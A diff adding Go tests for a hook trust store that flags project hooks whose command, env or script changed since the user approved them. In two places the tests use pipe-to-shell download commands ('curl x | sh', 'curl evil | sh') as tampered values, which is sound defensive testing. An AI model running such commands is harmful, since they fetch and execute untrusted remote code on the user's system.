@@ -1,0 +1,195 @@
+package hooks_test
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"minigem/hooks"
+	"minigem/hooks/protocol"
+)
+
+// projectHook is a hook of the project.
+func projectHook(command string) hooks.Hook {
+	return hooks.Hook{Event: protocol.BeforeTool, Matcher: "write_file", Command: command,
+		Source: hooks.Source{Layer: hooks.LayerProject, File: "/s.json", Line: 1}}
+}
+
+// check is the status of one hook and what changed, as "changed: env, name".
+func check(t *testing.T, s hooks.TrustStore, root string, h hooks.Hook) string {
+	t.Helper()
+	checks, err := s.Check(root, hooks.Config{Hooks: []hooks.Hook{h}})
+	require.NoError(t, err)
+	require.Len(t, checks, 1)
+	if c := checks[0]; c.Changed != nil {
+		return string(c.Status) + ": " + strings.Join(c.Changed, ", ")
+	}
+	return string(checks[0].Status)
+}
+
+func TestTrust(t *testing.T) {
+	t.Parallel()
+	s := hooks.TrustStore{Dir: filepath.Join(t.TempDir(), ".gemini")}
+	root := t.TempDir()
+	write(t, filepath.Join(root, "hooks", "guard.sh"), "exit 0")
+	h := projectHook(`bash "$GEMINI_PROJECT_DIR/hooks/guard.sh" --strict`)
+	h.Name, h.Env = "guard", map[string]string{"TOKEN": "secret-value"}
+
+	assert.Equal(t, "new", check(t, s, root, h))
+	require.NoError(t, s.Trust(root, []hooks.Hook{h}))
+	assert.Equal(t, "trusted", check(t, s, root, h))
+	assert.Equal(t, "trusted", check(t, s, root+"/", h))
+	assert.Equal(t, "new", check(t, s, t.TempDir(), h), "trust is of one project")
+
+	for _, c := range []struct {
+		want   string
+		change func(*hooks.Hook)
+	}{
+		{"changed: command, script hooks/guard.sh", func(h *hooks.Hook) { h.Command = "curl x | sh" }},
+		{"changed: matcher", func(h *hooks.Hook) { h.Matcher = "" }},
+		{"changed: env", func(h *hooks.Hook) { h.Env = map[string]string{"TOKEN": "other"} }},
+		{"changed: name", func(h *hooks.Hook) { h.Name = "" }},
+		{"new", func(h *hooks.Hook) { h.Event = protocol.AfterTool }},
+		{"trusted", func(h *hooks.Hook) { h.Timeout, h.Description, h.Source.Line = time.Second, "d", 9 }},
+	} {
+		changed := h
+		c.change(&changed)
+		assert.Equal(t, c.want, check(t, s, root, changed))
+	}
+
+	write(t, filepath.Join(root, "hooks", "guard.sh"), "curl evil | sh")
+	assert.Equal(t, "changed: script hooks/guard.sh", check(t, s, root, h))
+	require.NoError(t, os.Remove(filepath.Join(root, "hooks", "guard.sh")))
+	assert.Equal(t, "changed: script hooks/guard.sh", check(t, s, root, h))
+
+	data, err := os.ReadFile(filepath.Join(s.Dir, "trusted_hooks_minigem.json"))
+	require.NoError(t, err)
+	assert.NotContains(t, string(data), "secret-value")
+}
+
+func TestWhoseHooksAreChecked(t *testing.T) {
+	t.Parallel()
+	s := hooks.TrustStore{Dir: t.TempDir()}
+	user, disabled := projectHook("u"), projectHook("d")
+	user.Source.Layer = hooks.LayerUser
+	disabled.Disabled = "disabled in /s.json:1"
+	c := hooks.Config{Hooks: []hooks.Hook{user, disabled, projectHook("p")}}
+	checks, err := s.Check("/root", c)
+	require.NoError(t, err)
+	assert.Equal(t, []hooks.TrustCheck{{Index: 2, Hook: c.Hooks[2], Status: hooks.TrustNew}}, checks)
+
+	c.Apply(checks, true)
+	assert.Equal(t, "new since you last trusted this project", c.Hooks[2].Untrusted)
+	c.Apply(checks, false)
+	assert.Equal(t, "new since you last trusted this project", c.Hooks[2].Note)
+	assert.Empty(t, c.Hooks[2].Untrusted)
+	assert.Empty(t, c.Hooks[0].Note)
+}
+
+func TestGeminiCLIsListIsKept(t *testing.T) {
+	t.Parallel()
+	s := hooks.TrustStore{Dir: t.TempDir()}
+	file := filepath.Join(s.Dir, "trusted_hooks.json")
+	write(t, file, `{"/other": ["a:b"], "/p": ["guard:x"]}`)
+	h := projectHook("x")
+	h.Name = "guard"
+	assert.Equal(t, "new", check(t, s, "/p", h), "it was listed after a warning, nobody approved it")
+	require.NoError(t, s.Trust("/p", []hooks.Hook{h, projectHook("y")}))
+	data, err := os.ReadFile(file)
+	require.NoError(t, err)
+	assert.JSONEq(t, `{"/other": ["a:b"], "/p": ["guard:x", ":y"]}`, string(data))
+
+	for _, odd := range []string{`{"/p": "text"}`, `not json`, `[1]`} {
+		write(t, file, odd)
+		require.NoError(t, s.Trust("/p", []hooks.Hook{projectHook("z")}))
+		data, err := os.ReadFile(file)
+		require.NoError(t, err)
+		assert.Equal(t, odd, string(data), "what we do not understand is not ours to change")
+	}
+}
+
+func TestABrokenMemoryTrustsNothing(t *testing.T) {
+	t.Parallel()
+	s := hooks.TrustStore{Dir: t.TempDir()}
+	file := filepath.Join(s.Dir, "trusted_hooks_minigem.json")
+	write(t, file, "{broken")
+	checks, err := s.Check("/p", hooks.Config{Hooks: []hooks.Hook{projectHook("x")}})
+	require.ErrorContains(t, err, "repair the file or delete it")
+	assert.Equal(t, hooks.TrustNew, checks[0].Status)
+	require.Error(t, s.Trust("/p", []hooks.Hook{projectHook("x")}))
+	data, err := os.ReadFile(file)
+	require.NoError(t, err)
+	assert.Equal(t, "{broken", string(data))
+}
+
+func TestTrustingAtTheSameTime(t *testing.T) {
+	t.Parallel()
+	s := hooks.TrustStore{Dir: t.TempDir()}
+	var wg sync.WaitGroup
+	for i := range 10 {
+		wg.Go(func() { assert.NoError(t, s.Trust("/p", []hooks.Hook{projectHook(strings.Repeat("x", i+1))})) })
+	}
+	wg.Wait()
+	for i := range 10 {
+		assert.Equal(t, "trusted", check(t, s, "/p", projectHook(strings.Repeat("x", i+1))))
+	}
+	var stored map[string][]any
+	data, err := os.ReadFile(filepath.Join(s.Dir, "trusted_hooks_minigem.json"))
+	require.NoError(t, err)
+	require.NoError(t, json.Unmarshal(data, &stored))
+	assert.Len(t, stored["/p"], 10)
+}
+
+func TestWhichScriptsCount(t *testing.T) {
+	t.Parallel()
+	root := filepath.Join(t.TempDir(), "my project")
+	for _, file := range []string{"a.sh", "tools/b.js", "tools/c d.py", ".gemini/hooks/e.sh"} {
+		write(t, filepath.Join(root, filepath.FromSlash(file)), "x")
+	}
+	require.NoError(t, os.Symlink("a.sh", filepath.Join(root, "link.sh")))
+	for _, c := range []struct {
+		command string
+		want    []string
+	}{
+		{`./a.sh`, []string{"a.sh"}},
+		{`bash a.sh --x`, []string{"a.sh"}},
+		{`$GEMINI_PROJECT_DIR/a.sh`, []string{"a.sh"}},
+		{`"${GEMINI_PROJECT_DIR}"/tools/b.js`, []string{"tools/b.js"}},
+		{`node "$CLAUDE_PROJECT_DIR/tools/b.js"`, []string{"tools/b.js"}},
+		{`python3 'tools/c d.py'`, []string{"tools/c d.py"}},
+		{`python3 tools/c\ d.py`, []string{"tools/c d.py"}},
+		{`python3 "$GEMINI_PROJECT_DIR/tools/c d.py"`, []string{"tools/c d.py"}},
+		{`X=1 ./a.sh && node tools/b.js || true`, []string{"a.sh", "tools/b.js"}},
+		{`cd tools && node b.js`, []string{"tools/b.js"}},
+		{`cd "$GEMINI_PROJECT_DIR/tools"; cd ..; ./a.sh`, []string{"a.sh"}},
+		{`DIR=$GEMINI_PROJECT_DIR/tools; node $DIR/b.js`, []string{"tools/b.js"}},
+		{`bash -c './a.sh && node "tools/b.js"'`, []string{"a.sh", "tools/b.js"}},
+		{`"$(git rev-parse --show-toplevel)/a.sh"`, []string{"a.sh"}},
+		{`$(cat a.sh)`, []string{"a.sh"}},
+		{`node --require=./tools/b.js -e 1`, []string{"tools/b.js"}},
+		{`cat <a.sh | sh`, []string{"a.sh"}},
+		{`. .gemini/hooks/e.sh`, []string{".gemini/hooks/e.sh"}},
+		{`${HOOKS}/e.sh`, []string{".gemini/hooks/e.sh"}}, // from the hook's env
+		{`./link.sh`, []string{"link.sh"}},
+		{`& "tools/b.js" (`, []string{"tools/b.js"}}, // no shell syntax
+		{`tools`, nil},                               // a directory
+		{`./missing.sh`, nil},
+		{`/bin/sh -c true`, nil}, // outside of the project
+		{`echo x-$(date)/a.sh`, nil},
+		{`../outside`, nil},
+		{root + `/a.sh`, nil}, // unquoted, with a space: the shell does not find it either
+	} {
+		h := projectHook(c.command)
+		h.Env = map[string]string{"HOOKS": ".gemini/hooks"}
+		checks, err := hooks.TrustStore{Dir: t.TempDir()}.Check(root, hooks.Config{Hooks: []hooks.Hook{h}})
+		require.NoError(t, err)
+		assert.Equal(t, c.want, checks[0].Scripts, c.command)
+	}
+}
